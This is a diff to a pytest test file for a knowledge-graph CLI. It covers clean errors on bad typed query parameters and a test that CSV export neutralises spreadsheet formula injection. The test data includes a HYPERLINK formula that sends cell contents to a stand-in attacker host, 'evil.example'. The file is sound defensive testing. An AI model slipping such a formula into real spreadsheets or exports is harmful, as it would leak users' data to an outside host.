@@ -10,6 +10,7 @@ import pytest
 from click.testing import CliRunner
 
 from borderkg.cli import cli
+from borderkg.store import OxigraphStore
 
 from conftest import ROOT
 
@@ -55,7 +56,8 @@ def test_build_exits_non_zero_and_names_the_bad_file(tmp_path, report_txt_path):
 
 
 def test_unknown_query_is_a_clean_error(tmp_path):
-    result = CliRunner().invoke(cli, ["query", "no-such-query", "--store", str(tmp_path)])
+    OxigraphStore(tmp_path / "store").close()
+    result = CliRunner().invoke(cli, ["query", "no-such-query", "--store", str(tmp_path / "store")])
     assert result.exit_code == 1
     assert "no saved query named 'no-such-query'" in result.output
 
@@ -74,3 +76,55 @@ def test_query_does_not_load_the_nlp_stack(tmp_path, report_txt_path):
             "print('HEAVY', heavy)") % str(store)
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT).stdout
     assert "HEAVY []" in out, out
+
+
+@pytest.fixture
+def empty_store(tmp_path):
+    OxigraphStore(tmp_path / "empty").close()
+    return str(tmp_path / "empty")
+
+
+@pytest.mark.parametrize("query, param, expected", [
+    ("new-partnerships", "from=2025-13-45", "parameter from: '2025-13-45' is not a date (YYYY-MM-DD"),
+    ("new-partnerships", "to=2025-02-30", "parameter to: '2025-02-30' is not a date (YYYY-MM-DD"),
+    ("events-in-place-window", "from=1.4.2025", "parameter from: '1.4.2025' is not a date (YYYY-MM-DD"),
+    ("top-organisations", "top=five", "parameter top: 'five' is not a whole number"),
+])
+def test_a_typed_parameter_is_checked(empty_store, query, param, expected):
+    result = CliRunner().invoke(cli, ["query", query, "-p", param, "--store", empty_store])
+    assert result.exit_code == 1 and "Traceback" not in result.output
+    assert len(result.output.strip().splitlines()) == 1 and expected in result.output
+
+
+FORMULAS = ["=1+1", "+7(4812)38-41-01", "@SUM(1;1)", '=HYPERLINK("http://evil.example/?"&A1;"подробнее")',
+            "\t=1+1", "-2+3"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    from pyoxigraph import Literal, NamedNode, Quad
+
+    from borderkg.export import read_table
+    from borderkg.vocab import ID, SCHEMA
+
+    store = OxigraphStore(tmp_path / "store")
+    graph = NamedNode(ID + "graph/formulas")
+    quads = []
+    for i, name in enumerate(FORMULAS + ["-12", "Рудня"]):
+        event = NamedNode(f"{ID}event/formulas/{i}")
+        quads += [Quad(event, NamedNode("http://www.w3.org/1999/02/22-rdf-syntax-ns#type"),
+                       NamedNode(SCHEMA + "Event"), graph),
+                  Quad(event, NamedNode(SCHEMA + "name"), Literal(name), graph)]
+    store.replace_graph(graph.value, quads)
+    store.close()
+    result = CliRunner().invoke(cli, ["export", "--format", "csv", "--out", str(tmp_path / "csv"),
+                                      "--store", str(tmp_path / "store")])
+    assert result.exit_code == 0, result.output
+    header, rows = read_table(tmp_path / "csv" / "events.csv")
+    names = {row[header.index("name")] for row in rows}
+    assert names == {"'" + f for f in FORMULAS} | {"-12", "Рудня"}  # a negative number stays a number
+    (tmp_path / "names.rq").write_text("SELECT ?name WHERE { ?e a schema:Event ; schema:name ?name }",
+                                       encoding="utf-8")
+    queried = CliRunner().invoke(cli, ["query", str(tmp_path / "names.rq"), "--format", "csv",
+                                       "--store", str(tmp_path / "store")])
+    assert queried.exit_code == 0, queried.output
+    assert set(queried.output.splitlines()[1:]) >= {"'=1+1", "'@SUM(1;1)", "-12"}
